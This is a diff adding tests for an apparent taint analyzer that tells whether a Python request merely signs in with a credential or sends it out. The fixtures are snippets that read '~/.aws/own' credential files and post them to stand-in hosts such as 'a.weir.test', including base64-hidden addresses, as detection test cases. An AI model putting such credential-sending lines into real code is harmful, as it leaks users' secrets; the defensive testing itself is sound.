@@ -30,6 +30,60 @@ describe('files that a folder lists', () => {
   });
 });
 
+describe('what only addresses a request and signs it in', () => {
+  /** Names of labels of which the last request of a source signs in with something, and sends nothing else of it. */
+  function signsIn(statements: string): string[] {
+    const { flows } = analyzePython(
+      `import base64, glob, http.client, json, os, requests\ndef go(host):\n    ${statements}\n`,
+    ).flow;
+    return labelNames(flows.findLast(({ sink }) => sink === 'network')?.signsIn ?? 0);
+  }
+  const KEY = 'open(os.path.expanduser("~/.aws/own")).read()';
+  const FOUND = 'info = json.load(open(glob.glob("/run/*.json")[0])); ';
+
+  test.each([
+    ['where a caller says', `requests.get(host + "/x", headers={"Authorization": ${KEY}})`, ['credential']],
+    [
+      'where a variable says',
+      `requests.get(f'https://{os.environ["HOST"]}/x', auth=("me", ${KEY}), timeout=3)`,
+      ['credential'],
+    ],
+    [
+      'where the file says',
+      `${FOUND}requests.post(info["url"] + "login", headers={"Cookie": info["id"]})`,
+      ['harvest'],
+    ],
+    [
+      'through a connection',
+      `c = http.client.HTTPConnection(host); c.request("POST", "/", "{}", {"Authorization": ${KEY}})`,
+      ['credential'],
+    ],
+  ])('is told: %s', (_where, statements, labels) => {
+    expect(signsIn(statements)).toEqual(labels);
+  });
+
+  test.each([
+    ['a body', `requests.post(host + "/x", data=${KEY})`],
+    [
+      'a body beside a header',
+      `k = ${KEY}; requests.post(host, headers={"Authorization": k}, json={"k": k})`,
+    ],
+    ['another header', `requests.get(host, headers={"X-Data": ${KEY}})`],
+    ['what was put into a session', `s = requests.Session(); s.headers.update({"A": ${KEY}}); s.get(host)`],
+    ['an address that is spelled', `requests.get("https://a.weir.test/" + host, headers={"Cookie": ${KEY}})`],
+    [
+      'an address that is hidden',
+      `requests.get(base64.b64decode(host).decode(), headers={"Cookie": ${KEY}})`,
+    ],
+    ['an address that a server gave', `requests.get(requests.get(host).text, headers={"Cookie": ${KEY}})`],
+    ['a file that any folder lists', `${FOUND}requests.get(info["url"], headers={"Cookie": ${KEY}})`],
+    ['a file beside it', `requests.get(open("own.txt").read(), headers={"Cookie": ${KEY}})`],
+    ['an address of which nothing is known', `requests.get(made(), headers={"Cookie": ${KEY}})`],
+  ])('is not: %s', (_what, statements) => {
+    expect(signsIn(statements)).not.toContain('credential');
+  });
+});
+
 describe('the environment', () => {
   const SEND = 'requests.post("https://a.weir.test/x", json=';
 
